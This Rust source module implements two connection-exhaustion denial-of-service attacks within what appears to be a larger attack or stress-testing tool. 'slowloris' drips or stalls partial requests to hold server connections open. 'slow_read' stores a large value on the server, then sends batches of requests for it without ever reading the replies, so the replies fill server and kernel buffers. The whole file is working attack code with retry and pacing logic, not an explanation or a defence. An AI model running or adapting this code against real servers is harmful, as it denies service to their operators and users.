//! The kinds that hold a generic target up: slowloris (a partial request dripped) and
//! slow-read (requests whose replies are never read).

use std::sync::Arc;
use std::time::Duration;

use rand::RngCore;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::Instant;

use super::super::net::abort;
use super::super::run::{run_slots, Counts, Env, WriteEnd};
use super::{open, run_drained, Wire};

/// Between slow-read's requests once `requests_per_conn` are out.
const TRICKLE: Duration = Duration::from_millis(250);

/// Longest wait for the server to store slow-read's big value.
const STORE_WAIT: Duration = Duration::from_secs(10);

/// Requests per slow-read write.
const SLOW_READ_BATCH: u64 = 64;

pub(super) async fn slowloris(
    env: Arc<Env>,
    wire: Arc<Wire>,
    interval: Duration,
    declared_len: u32,
) {
    let (head, filler) = wire.partial(declared_len);
    let (head, filler) = (Arc::new(head), Arc::new(filler));
    run_drained(&env, move |env, mut slot| {
        let (head, filler) = (Arc::clone(&head), Arc::clone(&filler));
        async move {
            let mut n = 0usize;
            while env.live() {
                // Half the connections stop once the partial request is out.
                let stall = n % 2 == 1 || filler.is_empty();
                n = n.wrapping_add(1);
                let Some(mut conn) = slot.open().await else {
                    break;
                };
                let label = if stall {
                    "stall connections"
                } else {
                    "drip connections"
                };
                env.merge(&Counts::from([(label, 1)]));
                let mut sent = 0usize;
                loop {
                    let byte = if sent < head.len() {
                        head.get(sent).copied()
                    } else if stall {
                        None
                    } else {
                        filler
                            .get((sent - head.len()) % filler.len().max(1))
                            .copied()
                    };
                    let Some(byte) = byte else {
                        // Stalled: hold until the server gives up or the attack ends.
                        conn.wait(&env, None).await;
                        break;
                    };
                    if !conn.write(&env, &[byte], 0).await {
                        break;
                    }
                    sent += 1;
                    conn.wait(&env, Some(interval)).await;
                    if !env.live() || !conn.is_open() {
                        break;
                    }
                }
                slot.close(conn, Duration::from_millis(100)).await;
            }
        }
    })
    .await;
}

pub(super) async fn slow_read(
    env: Arc<Env>,
    wire: Arc<Wire>,
    file_bytes: u64,
    requests_per_conn: u32,
) {
    let big = store_big(&env, &wire, file_bytes).await;
    if !env.live() {
        return;
    }
    run_slots(&env, move |env, slot| {
        let (wire, big) = (Arc::clone(&wire), big.clone());
        async move {
            let mut rng = env.rng(slot as u64);
            let mut k = slot as u64 * 1_000_000;
            let mut request = move || {
                k = k.wrapping_add(1);
                big.clone().unwrap_or_else(|| wire.request(k))
            };
            while env.live() {
                let Some((mut stream, _)) = open(&env, &mut rng).await else {
                    break;
                };
                let opened = Instant::now();
                // Never read: the replies pile up in the server or in the kernel's buffers.
                let mut sent = 0u32;
                let label = loop {
                    let mut batch = Vec::new();
                    let mut n = 0u64;
                    while sent < requests_per_conn && n < SLOW_READ_BATCH {
                        batch.extend_from_slice(&request());
                        sent += 1;
                        n += 1;
                    }
                    if n == 0 {
                        // All requests are out: one more now and then shows a cut.
                        if !env.sleep(TRICKLE).await {
                            break "";
                        }
                        batch = request();
                        n = 1;
                    }
                    match env.write(&mut stream, &batch, n).await {
                        Ok(()) => {}
                        Err(WriteEnd::Halted) => break "",
                        Err(WriteEnd::Failed) => break "conn cut while writing",
                    }
                };
                if !label.is_empty() {
                    env.merge(&Counts::from([(label, 1)]));
                }
                abort(stream);
                env.pace(opened, &mut rng).await;
            }
        }
    })
    .await;
}

/// Stores slow-read's big value where the protocol can ([`Wire::store_big`]), retrying from
/// the next source every half second until the server takes it or the attack halts. Returns
/// the request that fetches it, or `None` (the protocol cannot store, or the attack halted).
async fn store_big(env: &Arc<Env>, wire: &Wire, file_bytes: u64) -> Option<Vec<u8>> {
    let mut rng = env.rng(u64::MAX);
    let mut value = vec![0u8; usize::try_from(file_bytes).unwrap_or(usize::MAX)];
    rng.fill_bytes(&mut value);
    let store = wire.store_big(&value)?;
    drop(value);
    while env.live() {
        let (mut stream, _) = open(env, &mut rng).await?;
        let mut reply = [0u8; 5];
        let stored = async {
            stream.write_all(&store).await?;
            stream.read_exact(&mut reply).await?;
            Ok::<bool, std::io::Error>(&reply == b"+OK\r\n")
        };
        let ok = tokio::select! {
            r = tokio::time::timeout(STORE_WAIT, stored) => matches!(r, Ok(Ok(true))),
            _ = env.halt.cancelled() => return None,
        };
        abort(stream);
        if ok {
            env.sent(1, store.len());
            env.note(format!("stored a {file_bytes}-byte value to ask for"));
            return wire.fetch_big();
        }
        env.note("the server would not store the big value; retrying");
        if !env.sleep(Duration::from_millis(500)).await {
            return None;
        }
    }
    None
}
